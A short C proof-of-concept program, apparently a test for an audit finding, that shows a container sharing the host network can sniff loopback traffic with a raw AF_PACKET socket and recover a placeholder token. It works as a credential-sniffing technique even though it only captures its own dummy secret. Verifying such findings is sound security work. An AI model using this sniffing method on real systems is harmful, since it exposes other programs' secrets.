/* The finding of issue 7, as an attacker in a container would do it: open an AF_PACKET socket on
 * the host's network (containers share it), send a UDP datagram holding a secret to 127.0.0.1
 * (standing for a token in another program's HTTP headers), and look for the secret in what the
 * packet socket sees. Prints "captured" when the loopback traffic is readable, else why not. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

static const char secret[] = "lds2-secret-token-7";

int main(void) {
    int sniffer = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (sniffer < 0) {
        printf("packet socket: %s\n", strerror(errno));
        return 1;
    }
    /* A bound on the wait, so a quiet loopback cannot hang the test. */
    struct timeval timeout = {.tv_sec = 5};
    setsockopt(sniffer, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);

    int sender = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    sendto(sender, secret, sizeof secret - 1, 0, (struct sockaddr *)&to, sizeof to);

    char frame[65536];
    for (int i = 0; i < 1000; i++) {
        ssize_t n = recv(sniffer, frame, sizeof frame, 0);
        if (n < 0) {
            printf("nothing captured: %s\n", strerror(errno));
            return 2;
        }
        if (memmem(frame, (size_t)n, secret, sizeof secret - 1)) {
            printf("captured\n");
            return 0;
        }
    }
    printf("nothing captured\n");
    return 2;
}
